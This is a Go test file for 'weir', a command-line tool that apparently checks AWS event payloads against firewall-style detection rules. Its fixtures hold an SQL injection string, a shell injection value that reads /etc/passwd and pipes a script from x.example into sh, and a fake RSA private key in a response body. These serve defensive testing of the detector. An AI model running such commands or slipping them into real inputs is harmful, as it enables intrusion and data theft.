package main

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"unicode/utf8"
)

// program is the built program: these tests run it as its users do.
var program string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "weir-")
	if err != nil {
		panic(err)
	}
	program = filepath.Join(dir, "weir")
	if runtime.GOOS == "windows" {
		program += ".exe"
	}
	if out, err := exec.Command("go", "build", "-ldflags", "-X main.version=v1.2.3", "-o", program, ".").CombinedOutput(); err != nil {
		panic(string(out))
	}
	code := m.Run()
	_ = os.RemoveAll(dir)
	os.Exit(code)
}

// result is what a run of the program did.
type result struct {
	code     int
	out, err string
}

// weir runs the program in a directory.
func weir(t *testing.T, dir, stdin string, args ...string) result {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), program, args...)
	cmd.Dir, cmd.Stdin = dir, strings.NewReader(stdin)
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	var exit *exec.ExitError
	if err := cmd.Run(); err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	return result{cmd.ProcessState.ExitCode(), out.String(), errs.String()}
}

// has are the parts of a text that are not in it.
func missing(text string, parts ...string) (list []string) {
	for _, p := range parts {
		if !strings.Contains(text, p) {
			list = append(list, p)
		}
	}
	return list
}

// tooWide is a line of more than 80 characters, or "".
func tooWide(text string) string {
	for line := range strings.Lines(text) {
		if utf8.RuneCountInString(strings.TrimSuffix(line, "\n")) > 80 {
			return line
		}
	}
	return ""
}

// write makes a directory with files, by slashed path.
func write(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// queue is an event of SQS over several lines, with these bodies.
func queue(bodies ...string) string {
	var records []any
	for _, body := range bodies {
		records = append(records, map[string]any{
			"messageId": "059f36b4-87a3-44ab-83d2-661975830a7d", "receiptHandle": "AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a", "body": body,
			"attributes": map[string]any{
				"ApproximateReceiveCount": "1", "SentTimestamp": "1545082649183", "SenderId": "AIDAIENQZJOLO23YVJ4VO",
				"ApproximateFirstReceiveTimestamp": "1545082649185",
			},
			"messageAttributes": map[string]any{}, "md5OfBody": "e4e68fb7bd0e697a0ae8f1bb342846b3", "eventSource": "aws:sqs",
			"eventSourceARN": "arn:aws:sqs:us-east-2:123456789012:orders", "awsRegion": "us-east-2",
		})
	}
	text, err := json.MarshalIndent(map[string]any{"Records": records}, "", "  ")
	if err != nil {
		panic(err)
	}
	return string(text)
}

var (
	honest = queue(`{"order":"1001"}`)
	attack = queue(`{"order":"1001"}`, `{"order":"1' OR '1'='1' -- "}`)
)

func TestADocumentOverManyLinesIsOneEvent(t *testing.T) {
	dir := write(t, map[string]string{"event.json": attack, "many.jsonl": honest + "\n" + attack})
	for _, c := range []struct {
		name, stdin string
		args        []string
		want        []string
		events      int
	}{
		{"a file", "", []string{"inspect", "event.json"}, []string{"event.json: sqs with 2 records, filtered"}, 1},
		{"a pattern", "", []string{"inspect", "ev*.json"}, []string{"event.json: sqs with 2 records, filtered"}, 1},
		{"standard input", attack, []string{"inspect", "-"}, []string{"-:1: sqs with 2 records, filtered"}, 1},
		{"a file of many", "", []string{"inspect", "many.jsonl"}, []string{"many.jsonl:1: sqs with 1 record, clean", "sqs with 2 records, filtered"}, 2},
		{"standard input of many", "{}\n[]\n", []string{"inspect", "-"}, []string{"-:1: direct, clean", "-:2: direct, clean"}, 2},
	} {
		r := weir(t, dir, c.stdin, c.args...)
		if lost := missing(r.out, c.want...); r.code != 0 || r.err != "" || lost != nil || strings.Count(r.out, "took ") != c.events {
			t.Errorf("%s: %+v; not there: %q", c.name, r, lost)
		}
		if strings.Contains(r.out, "\x1b") {
			t.Errorf("%s: colours go into a pipe", c.name)
		}
	}
}

func TestWhatIsNoEventIsToldInTwoLines(t *testing.T) {
	dir := write(t, map[string]string{"empty.json": "", "table.csv": "a,b\n", "events/one.json": "{}", "cut.json": attack[:200]})
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"inspect", "empty.json"}, "weir inspect: empty.json: this is empty\n"},
		{[]string{"inspect", "table.csv"}, "weir inspect: table.csv: line 1 is not JSON: invalid character 'a'\n"},
		{[]string{"inspect", "events"}, "weir inspect: events: this is a directory\n  Name its files: " + filepath.Join("events", "*.json") + "\n"},
		{[]string{"inspect", "cut.json"}, "is not JSON: unexpected end of JSON input\n"},
		{[]string{"inspect", "-"}, "weir inspect: standard input: this is empty\n"},
		{[]string{"inspect", "none*.json"}, "weir inspect: none*.json: there is no such file\n"},
		{[]string{"inspect", "none.json"}, "weir inspect: none.json: there is no such file\n"},
		{[]string{"inspekt", "a"}, "weir: there is no command \"inspekt\"\n  Did you mean \"inspect\"?"},
		{[]string{"inspect", "--jsn", "a"}, "weir inspect: there is no flag --jsn\n  Did you mean \"--json\"?"},
		{[]string{"inspect", "--source", "kinesys", "a"}, "weir inspect: --source kinesys: there is no such source\n  Did you mean \"kinesis\"?"},
		{[]string{"test", "none"}, "weir test: none: there is no such directory\n"},
		{[]string{"test", "events"}, "weir test: events: there is no expected.json here or below\n"},
		{[]string{"completion", "csh"}, "weir completion: there is no completion for \"csh\"\n"},
	} {
		r := weir(t, dir, "", c.args...)
		if r.code != 2 || !strings.Contains(r.err, c.want) || strings.Count(r.err, "\n") != 2 || tooWide(r.err) != "" {
			t.Errorf("%q: exit code %d\n%s", c.args, r.code, r.err)
		}
	}
}

func TestWhatIsWrongWithSettingsFitsATerminal(t *testing.T) {
	t.Setenv("WEIR_MODE", "monitor,frob=block")
	t.Setenv("WEIR_LIMITS", "depth=many,views=none,bytes=some")
	dir := write(t, map[string]string{"s/a.json": "{}", "s/expected.json": `{"events":{"a.json":{"action":"pass"}}}`})
	for _, args := range [][]string{{"inspect", "s/a.json"}, {"rules"}, {"test", "s"}} {
		if r := weir(t, dir, "", args...); !strings.Contains(r.err, "frob") || strings.Count(r.err, "\n") < 3 || tooWide(r.err) != "" {
			t.Errorf("%q: %+v", args, r)
		}
	}
}

// The layer's program, which does without them, names this one for these commands.
func TestThisProgramHasWhatTheLayersDoesWithout(t *testing.T) {
	for _, command := range []string{"test", "completion"} {
		if r := weir(t, t.TempDir(), "", "help", command); r.code != 0 || !strings.HasPrefix(r.out, "weir "+command) {
			t.Errorf("%s: %+v", command, r)
		}
	}
}

func TestAnEventIsAssertedToBeOfASource(t *testing.T) {
	dir := write(t, map[string]string{"event.json": honest, "half.json": `{"Records":[{"eventSource":"aws:sqs"}]}`})
	for _, c := range []struct {
		args []string
		code int
		err  string
	}{
		{[]string{"--source", "sqs", "event.json"}, 0, ""},
		{[]string{"--source=sns", "event.json"}, 1, "event.json: this is an event of sqs, not of sns"},
		{[]string{"--source", "sqs", "half.json"}, 1, "half.json: this is no event of sqs, nor of any source"},
		{[]string{"--source", "direct", "half.json"}, 0, ""},
	} {
		r := weir(t, dir, "", append([]string{"inspect"}, c.args...)...)
		if r.code != c.code || !strings.Contains(r.err, c.err) || (c.err == "") != (r.err == "") || tooWide(r.err) != "" {
			t.Errorf("%q: %+v", c.args, r)
		}
	}
}

func TestAllThatIsPrintedFitsATerminal(t *testing.T) {
	dir := write(t, map[string]string{"event.json": attack, "shell.json": `{"a":"; cat /etc/passwd; id; curl http://x.example/a.sh|sh; uname -a"}`})
	value := regexp.MustCompile(`(?m)^    \d+@\S.*$`) // of WEIR_EXCLUDE, whole for copying
	for _, args := range [][]string{
		{"help"},
		{"help", "inspect"},
		{"help", "rules"},
		{"help", "test"},
		{"help", "completion"},
		{"help", "config"},
		{"help", "help"},
		{"--version"},
		{"rules"},
		{"rules", "--tag", "attack-sqli"},
		{"config"},
		{"inspect", "--explain", "event.json", "shell.json"},
	} {
		r := weir(t, dir, "", args...)
		if line := tooWide(value.ReplaceAllString(r.out, "")); r.code != 0 || r.err != "" || r.out == "" || line != "" {
			t.Errorf("%q: exit code %d, errors %q, wide: %s", args, r.code, r.err, line)
		}
	}
	if r := weir(t, dir, "", "inspect", "--explain", "shell.json"); len(r.out) > 8<<10 || !strings.Contains(r.out, "932235") || !strings.Contains(r.out, "^^^") {
		t.Errorf("an explanation has %d bytes", len(r.out))
	}
	if r := weir(t, dir, "", "rules", "932235"); len(r.out) < 8<<10 {
		t.Errorf("a rule's whole text has %d bytes", len(r.out))
	}
}

func TestSuitesAreComparedWithWhatIsExpected(t *testing.T) {
	dir := write(t, map[string]string{
		"good/expected.json": `{"events":{
			"honest.json":{"action":"pass","source":"sqs","clean":true},
			"attack.json":{"action":"filter","rules":[942100],"not_rules":[930120],"bad_records":[1],"clean":false},
			"both.jsonl":[{"action":"pass"},{"action":"filter"}],
			"all.jsonl":{"source":"sqs","action":"pass"},
			"answer.txt.json":{"response":"function-url","clean":false,"action":"pass"}}}`,
		"good/honest.json": honest, "good/attack.json": attack, "good/both.jsonl": honest + "\n" + attack, "good/all.jsonl": honest + honest,
		"good/answer.txt.json":       `{"statusCode":200,"body":"-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA75dGvxcwTUCFUTSbXVW3Zm3xqkQXvNqPzYyZLrCTNEOoUWzT\n"}`,
		"good/monitor/expected.json": `{"settings":{"WEIR_MODE":"monitor"},"events":{"attack.json":{"action":"pass","would":"filter","rules":[942100]}}}`,
		"good/monitor/attack.json":   attack,
		"bad/expected.json": `{"events":{"attack.json":{"action":"pass","source":"sns","not_rules":[942100],"bad_records":[0],"clean":true},
			"honest.json":{"rules":[942100],"would":"block"},"gone.json":{"action":"pass"},"both.jsonl":[{"action":"pass"}, {"action":"filter"}]}}`,
		"bad/attack.json": attack, "bad/honest.json": honest, "bad/new.json": honest, "bad/both.jsonl": honest,
	})
	r := weir(t, dir, "", "test", "good")
	if lost := missing(r.out, "ok     both.jsonl:1: sqs, pass", filepath.Join("good", "monitor"), "8 events: 8 as expected"); lost != nil || r.code != 0 {
		t.Errorf("good: %+v; not there: %q", r, lost)
	}
	r = weir(t, dir, "", "test", "bad", "good")
	lost := missing(r.out, "DIFF   attack.json\n", "action: pass is expected, and it is filter", "source: sns is expected, and it is sqs",
		"not_rules: 942100 matches", "bad_records: [0] are expected, and they are [1]", "clean: nothing should be found, and something is",
		"rules: 942100 should match, and does not", "would: block is expected, and it is nothing", "new.json\n         nothing is expected of it in expected.json",
		"the file has 1 events, and 2 are expected", "FAULT  gone.json", "weir inspect --explain "+filepath.Join("bad", "attack.json"))
	if lost != nil || r.code != 2 || tooWide(r.out) != "" {
		t.Errorf("bad: exit code %d\n%s\nnot there: %q", r.code, r.out, lost)
	}
	if err := os.WriteFile(filepath.Join(dir, "bad", "gone.json"), []byte("{}"), 0o600); err != nil {
		t.Fatal(err)
	}
	if r = weir(t, dir, "", "test", "bad"); r.code != 1 {
		t.Errorf("differences: exit code %d", r.code)
	}
}

func TestWhatIsExpectedIsReadStrictly(t *testing.T) {
	for text, want := range map[string]string{
		`{"events":{"a.json":{"acton":"pass"}}}`:                      `unknown field "acton"`,
		`{"events":{"a.json":{"action":"deny"}}}`:                     `"deny" is no action`,
		`{"events":{"a.json":{"action":"pass","source":"sqz"}}}`:      `there is no source "sqz"`,
		`{"events":{"a.json":{"would":"pass"}}}`:                      `"pass" is nothing that would be done`,
		`{"events":{"a.json":{}}}`:                                    "nothing is expected",
		`{"events":{"a.json":[]}}`:                                    "an empty list expects nothing",
		`{"event":{}}`:                                                `unknown field "event"`,
		`{"settings":{"WEIR_MODE":"blok"},"events":{}}`:               "blok",
		`{"settings":{"WEIR_MOOD":"x"},"events":{}}`:                  "WEIR_MOOD",
		`{"events":{"a.json":{"action":"pass","response":"nowhere"}}`: "unexpected EOF",
		``: "EOF",
	} {
		r := weir(t, write(t, map[string]string{"expected.json": text, "a.json": "{}"}), "", "test", ".")
		if r.code != 2 || !strings.Contains(r.err, want) {
			t.Errorf("%s: %+v", text, r)
		}
	}
}

func TestJUnitHoldsWhatIsPrinted(t *testing.T) {
	dir := write(t, map[string]string{
		"s/expected.json": `{"events":{"a.json":{"action":"pass"},"b.json":{"action":"block"},"c.json":{"action":"pass"}}}`,
		"s/a.json":        "{}", "s/b.json": "{}", "s/c.json": "no JSON",
	})
	if r := weir(t, dir, "", "test", "--junit", "out.xml", "s"); r.code != 2 {
		t.Errorf("%+v", r)
	}
	text, err := os.ReadFile(filepath.Join(dir, "out.xml"))
	if err != nil {
		t.Fatal(err)
	}
	var got junitSuites
	if err := xml.Unmarshal(text, &got); err != nil {
		t.Fatal(err)
	}
	if got.Tests != 3 || got.Failures != 1 || got.Errors != 1 || len(got.Suites) != 1 || got.Suites[0].Name != "s" {
		t.Fatalf("got %s", text)
	}
	cases := got.Suites[0].Cases
	if cases[0].Failure != nil || cases[0].Error != nil || cases[0].Name != "a.json" || cases[0].Class != "s" ||
		cases[1].Failure == nil || cases[1].Failure.Message != "action: block is expected, and it is pass" ||
		cases[2].Error == nil || !strings.Contains(cases[2].Error.Message, "not JSON") {
		t.Errorf("got %s", text)
	}
	if r := weir(t, dir, "", "test", "--junit", "none/out.xml", "s"); r.code != 2 || !strings.Contains(r.err, "--junit names a file") {
		t.Errorf("%+v", r)
	}
}

func TestWhatHoldsNowIsWrittenAsATestThatPasses(t *testing.T) {
	dir := write(t, map[string]string{
		"s/honest.json": honest, "s/deeper/both.jsonl": honest + "\n" + attack, "s/.git/x.json": "{}", "s/notes.txt": "no event",
		"s/answer/expected.json": `{"settings":{"WEIR_RESPONSES":"block"},"events":{"answer.json":{"response":"function-url","clean":true}}}`,
		"s/answer/answer.json":   `no JSON`,
	})
	if r := weir(t, dir, "", "test", "--write", "s"); r.code != 0 || strings.Count(r.out, "\n") != 3 {
		t.Errorf("%+v", r)
	}
	if r := weir(t, dir, "", "test", "s"); r.code != 0 || !strings.Contains(r.out, "4 events: 4 as expected") {
		t.Errorf("%+v", r)
	}
	for name, parts := range map[string][]string{
		"s/deeper/expected.json": {`"action": "filter"`, "942100", `"clean": true`, `"bad_records"`},
		"s/answer/expected.json": {`"WEIR_RESPONSES": "block"`, `"response": "function-url"`},
	} {
		text, err := os.ReadFile(filepath.Join(dir, name))
		if lost := missing(string(text), parts...); err != nil || lost != nil {
			t.Errorf("%s: %v, %s, not there: %q", name, err, text, lost)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "s", ".git", "expected.json")); !errors.Is(err, fs.ErrNotExist) {
		t.Error("a hidden directory is written to")
	}
}

func TestTheVersionIsTold(t *testing.T) {
	for _, arg := range []string{"version", "--version"} {
		if r := weir(t, t.TempDir(), "", arg); r.out != "weir v1.2.3\n" || r.code != 0 {
			t.Errorf("%s: %+v", arg, r)
		}
	}
	if r := weir(t, t.TempDir(), ""); r.code != 2 || !strings.Contains(r.err, "weir test") || r.out != "" {
		t.Errorf("without arguments: %+v", r)
	}
}
